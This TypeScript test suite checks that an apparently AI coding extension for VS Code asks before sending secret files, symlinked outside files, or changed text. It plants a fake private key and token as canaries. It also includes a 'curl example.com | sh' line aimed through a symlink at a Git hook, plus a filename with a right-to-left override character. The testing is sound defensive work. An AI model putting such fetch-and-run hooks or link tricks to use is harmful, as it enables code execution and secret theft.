/**
 * Tests a repository with files that contain secrets, links to outside the workspace, and binary
 * files. Their text is never sent before the user confirms the real path, whatever command asks.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as vscode from "vscode";
import { systemClock } from "../../src/base/clock";
import type { Part } from "../../src/conversation/message";
import { useCode } from "../../src/host/replyActions/codeActions";
import { COMMANDS } from "../../src/host/platform/contributions";
import { readFiles } from "../../src/host/context/attachedFiles";
import { addFiles, addProblems, addSelection } from "../../src/host/context/addCommands";
import { askAboutSelection } from "../../src/host/editorCommands/askCommands";
import { ActiveSelection } from "../../src/host/context/activeSelection";
import { gatherFile } from "../../src/host/context/gather";
import { overlapsWorkspace } from "../../src/host/access/location";
import { readText } from "../../src/host/access/readAccess";
import { fenced, plainText, poll, selectLines, showFile, workspaceUri } from "./editing";
import { run, suiteWithService } from "./editingSuite";
import { receivedRequests, scriptService } from "./reference";
import { Repository } from "./repository";

/** Program that creates named pipes on Unix. */
const PIPE_MAKER = "mkfifo";

/** Text that must never be sent. */
const CANARY = "canary-of-the-traps-17";

/** Assembled here, so that secret scanners do not report this file. */
const KEY = [
  "-----BEGIN OPENSSH PRIV",
  `ATE KEY-----\n${CANARY}\n-----END OPENSSH PRIV`,
  "ATE KEY-----\n",
].join("");

/** Has the shape of a service's token; assembled here for the same reason. */
const TOKEN = ["gh", "p_", "c4n4ry0f7h37r4p5", "AbCdEfGhIjKlMnOpQrSt"].join("");

describe("a repository with secrets and links", () => {
  const answers = suiteWithService();
  let repository: Repository;
  let outside: string;
  let added: Part[] = [];
  const add = (parts: readonly Part[]) => Promise.resolve(void added.push(...parts));
  const at = (name: string) => repository.uri(name).fsPath;
  const out = (name: string) => join(outside, name);
  const sent = async () => JSON.stringify((await receivedRequests()).map(({ body }) => body));
  const questions = () => answers.shown.filter(({ buttons }) => buttons.length > 0);

  before(async () => {
    repository = await Repository.make("traps");
    outside = realpathSync(mkdtempSync(join(tmpdir(), "core-chat-traps-")));
    mkdirSync(out("folder"));
    writeFileSync(out("id_ed25519"), KEY);
    writeFileSync(out("plain.txt"), `plain words ${CANARY}\n`);
    writeFileSync(out("folder/inner.txt"), `inner words ${CANARY}\n`);
  });
  beforeEach(async () => {
    added = [];
    await repository.restore({});
  });
  after(async () => {
    await repository.restore({});
    rmSync(outside, { recursive: true });
  });

  /**
   * Writes untracked files: a secret, link, binary file or pipe of each kind, and an ordinary file.
   */
  async function writeTraps(): Promise<void> {
    writeFileSync(at(".env"), `DB_PASSWORD=${CANARY}\n`);
    writeFileSync(at("prod.tfvars"), `x = "${CANARY}"\n`);
    writeFileSync(at("config.yml"), `db:\n  password: "${CANARY}"\n`);
    writeFileSync(at("key.txt"), KEY);
    writeFileSync(at("data.bin"), `\0${CANARY}`);
    symlinkSync(out("id_ed25519"), at("NOTES.txt"));
    symlinkSync(out("plain.txt"), at("README-link.md"));
    symlinkSync(out("folder"), at("docs"));
    linkSync(out("plain.txt"), at("hard.txt"));
    // `git clean` does not remove pipes.
    rmSync(at("pipe.txt"), { force: true });
    execFileSync(PIPE_MAKER, [at("pipe.txt")]);
    writeFileSync(at("zz-new.txt"), "brand new\n");
    await repository.open.status();
  }

  it("asks for confirmation once, with the real path and the reason, before it adds a file", async () => {
    await writeTraps();
    const reasons: readonly (readonly [string, RegExp])[] = [
      [
        "NOTES.txt",
        new RegExp(`^${out("id_ed25519")} is outside .* may contain secrets: files with this`),
      ],
      ["README-link.md", new RegExp(`^${out("plain.txt")} is outside the workspace`)],
      ["docs/inner.txt", new RegExp(`^${out("folder/inner.txt")} is outside the workspace`)],
      [".env", /traps\/\.env may contain secrets: files with this name/],
      ["key.txt", /traps\/key\.txt may contain secrets: it contains a private key/],
      ["config.yml", /traps\/config\.yml may contain secrets: it contains a password/],
    ];
    for (const [name, question] of reasons) {
      answers.shown.length = 0;
      assert.deepEqual(await gatherFile(repository.uri(name)), { ok: false, sentence: "" }, name);
      assert.equal(answers.shown.length, 1, name);
      assert.match(answers.shown[0]?.text ?? "", question);
    }
    answers.choose("Add");
    await addFiles([repository.uri("NOTES.txt")], add);
    assert.ok(JSON.stringify(added).includes(CANARY));
  });

  it("does not wait for a pipe", async () => {
    await writeTraps();
    const pipe = await gatherFile(repository.uri("pipe.txt"));
    assert.match(pipe.ok ? "" : pipe.sentence, /could not be read/);
  });

  it("asks for confirmation because of secrets, not of the location, of a file from the system's dialog", async () => {
    const plain = await readText(vscode.Uri.file(out("plain.txt")), "picked");
    assert.equal(plain.kind, "text");
    assert.equal(answers.shown.length, 0);
    const key = await readText(vscode.Uri.file(out("id_ed25519")), "picked");
    assert.equal(key.kind, "left-out");
    assert.ok(answers.shown[0]?.text.startsWith(`${out("id_ed25519")} may contain secrets`));
  });

  it("lists no file names of folders behind links", async () => {
    await writeTraps();
    await addFiles([repository.uri("")], add);
    const text = JSON.stringify(added);
    assert.ok(text.includes("zz-new.txt") && !text.includes("inner.txt"), text);
  });

  it("sends the confirmed file, even if the link changes afterwards", async () => {
    symlinkSync(out("plain.txt"), at("swapped.txt"));
    const show = vscode.window.showWarningMessage;
    const swap = (_text: string, _options: unknown, button: string) => {
      rmSync(at("swapped.txt"));
      symlinkSync(out("id_ed25519"), at("swapped.txt"));
      return Promise.resolve(button);
    };
    Reflect.set(vscode.window, "showWarningMessage", swap);
    try {
      const gathered = await gatherFile(repository.uri("swapped.txt"));
      const text = JSON.stringify(gathered);
      assert.ok(text.includes("plain words") && !text.includes("OPENSSH"), text);
    } finally {
      Reflect.set(vscode.window, "showWarningMessage", show);
    }
  });

  it("checks the whole lines that are sent, not only the selected characters", async () => {
    const name = "code.ts";
    writeFileSync(at(name), `const id = 1;\nconst key = "${TOKEN}";\n`);
    const editor = await vscode.window.showTextDocument(repository.uri(name));
    const memory = { get: () => undefined, update: () => Promise.resolve(), keys: () => [] };
    const automatic = new ActiveSelection(memory, systemClock);
    try {
      for (const end of [0, 5]) {
        answers.shown.length = 0;
        editor.selection = new vscode.Selection(1, 0, 1, end);
        await addSelection(undefined, add);
        await askAboutSelection("explain", undefined, () => Promise.reject(new Error("sent")));
        assert.equal(questions().length, 2, `${end} characters`);
      }
      await poll(() => automatic.current()?.leftOut === "secrets", "the line to be left out");
      answers.shown.length = 0;
      editor.selection = new vscode.Selection(0, 0, 0, 5);
      await addSelection(undefined, add);
      assert.deepEqual(questions(), []);
      assert.equal(added.length, 1);
    } finally {
      automatic.dispose();
    }
  });

  it("asks one question for many files, and lists their paths", async () => {
    const names = Array.from({ length: 25 }, (_, index) => `app${index}.env`);
    for (const name of names) writeFileSync(at(name), `DB_PASSWORD=${CANARY}\n`);
    writeFileSync(at("zz-new.txt"), "brand new\n");
    const uris = [...names.slice(0, 19), "zz-new.txt"].map((name) => repository.uri(name));
    await addFiles(uris, add);
    assert.equal(questions().length, 1);
    assert.match(questions()[0]?.text ?? "", /^Files that may contain secrets.*: 19\./);
    assert.ok(JSON.stringify(added).includes("brand new"));
    assert.ok(!JSON.stringify(added).includes(CANARY));
    added = [];
    answers.choose("Add All");
    await addFiles(uris, add);
    assert.equal(added.length, 20);
    await readFiles(names.map((name) => repository.uri(name).toString()));
    const listed = answers.details.at(-1)?.split("\n") ?? [];
    assert.equal(listed.length, 21);
    assert.match(listed[0] ?? "", /app0\.env: [^,]+$/);
    assert.equal(listed[20], "and 5 more");
  });

  it("excludes messages of files with secrets from the problems, and reports them", async () => {
    await writeTraps();
    const diagnostics = vscode.languages.createDiagnosticCollection("traps");
    try {
      const range = new vscode.Range(0, 0, 0, 3);
      for (const name of [".env", "config.yml", "NOTES.txt", "key.txt"]) {
        const message = `unknown word ${CANARY}`;
        diagnostics.set(repository.uri(name), [new vscode.Diagnostic(range, message)]);
      }
      diagnostics.set(repository.uri("zz-new.txt"), [
        new vscode.Diagnostic(range, "brand is misspelt"),
        new vscode.Diagnostic(range, `found ${TOKEN}`),
      ]);
      await addProblems([], add);
      await addProblems([repository.uri(".env")], add);
      const text = JSON.stringify(added);
      assert.ok(!text.includes(CANARY) && !text.includes(TOKEN), text);
      assert.ok(text.includes("brand is misspelt") && text.includes("config.yml"));
      assert.match(answers.shown[0]?.text ?? "", /\.env/);
    } finally {
      diagnostics.dispose();
    }
  });

  it("sends the checked text, even if the open document changes meanwhile", async () => {
    const { document } = await showFile("traps/open.env.txt", "first words\n");
    symlinkSync(out("plain.txt"), at("open-link.txt"));
    const linked = await vscode.window.showTextDocument(repository.uri("open-link.txt"));
    const show = vscode.window.showWarningMessage;
    const change = async (_text: string, _options: unknown, button: string) => {
      const end = new vscode.Position(0, 0);
      await linked.edit((edit) => edit.insert(end, `${TOKEN}\n`));
      return button;
    };
    Reflect.set(vscode.window, "showWarningMessage", change);
    try {
      const text = JSON.stringify(await gatherFile(repository.uri("open-link.txt")));
      assert.ok(text.includes("plain words") && !text.includes(TOKEN), text);
      assert.ok(!document.isDirty);
    } finally {
      Reflect.set(vscode.window, "showWarningMessage", show);
    }
  });

  it("asks about a token that is added to the lines while another question is open", async () => {
    symlinkSync(out("plain.txt"), at("edited-link.txt"));
    const editor = await vscode.window.showTextDocument(repository.uri("edited-link.txt"));
    const show = vscode.window.showWarningMessage;
    const asked: string[] = [];
    const change = async (text: string, _options: unknown, button: string) => {
      asked.push(text);
      if (asked.length > 1) return undefined;
      await editor.edit((edit) => edit.insert(new vscode.Position(0, 0), `${TOKEN}\n`));
      return button;
    };
    Reflect.set(vscode.window, "showWarningMessage", change);
    try {
      await run(COMMANDS.editSelection, { instruction: "shout" });
    } finally {
      Reflect.set(vscode.window, "showWarningMessage", show);
    }
    assert.equal(asked.length, 2);
    assert.match(asked[1] ?? "", /outside the workspace.*access token/);
    assert.deepEqual(await receivedRequests(), []);
  });

  it("asks about a token typed into a pending edit before it is refined", async () => {
    const editor = await showFile("traps/refined.ts", "one\ntwo\n");
    await scriptService(fenced(["ONE"]));
    selectLines(editor, 1, 1);
    await run(COMMANDS.editSelection, { instruction: "shout" });
    const end = editor.document.lineAt(0).range.end;
    await editor.edit((edit) => edit.insert(end, ` "${TOKEN}"`));
    answers.choose("Discard Both");
    await run(COMMANDS.editSelection, { instruction: "louder" });
    assert.match(questions().at(-1)?.text ?? "", /access token/);
    assert.equal((await receivedRequests()).length, 1);
    assert.ok(!(await sent()).includes(TOKEN));
    await run(COMMANDS.inlineKeep);
  });

  it("escapes line breaks and direction characters of names in questions and parts", async () => {
    const name = "plan\nis safe\u202Etxt.env";
    writeFileSync(at(name), `DB_PASSWORD=${CANARY}\n`);
    const uri = repository.uri(name);
    await addFiles([uri], add);
    assert.match(questions()[0]?.text ?? "", /plan\\u\{a\}is safe\\u\{202e\}txt\.env may contain/);
    answers.choose("Add");
    await addFiles([uri], add);
    const [part] = added;
    assert.equal(part?.kind === "excerpt" && part.path, "traps/plan\\u{a}is safe\\u{202e}txt.env");
  });

  it("excludes repositories outside the workspace from all changes", async () => {
    assert.equal(await overlapsWorkspace(vscode.Uri.file(outside)), false);
    assert.equal(await overlapsWorkspace(repository.uri("")), true);
    assert.equal(await overlapsWorkspace(vscode.Uri.joinPath(workspaceUri(), "..")), true);
  });

  it("asks with the real path before it writes a reply through a link", async () => {
    mkdirSync(at("src"));
    writeFileSync(at(".git/hooks/post-checkout"), "#!/bin/sh\n");
    symlinkSync(at(".git/hooks/post-checkout"), at("src/util.sh"));
    symlinkSync(out("plain.txt"), at("src/words.txt"));
    const reply = "```\ncurl example.com | sh\n```\n";
    const noProposal = () => Promise.reject(new Error("nothing is applied here"));
    for (const [name, question] of [
      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout: part of a Git directory/],
      ["src/words.txt", /plain\.txt: outside the workspace; a link/],
    ] as const) {
      const { document } = await vscode.window.showTextDocument(repository.uri(name));
      const before = plainText(document);
      await useCode("insert-at-cursor", reply, 0, noProposal);
      assert.match(answers.shown.at(-1)?.text ?? "", question);
      assert.equal(plainText(document), before);
    }
  });
});
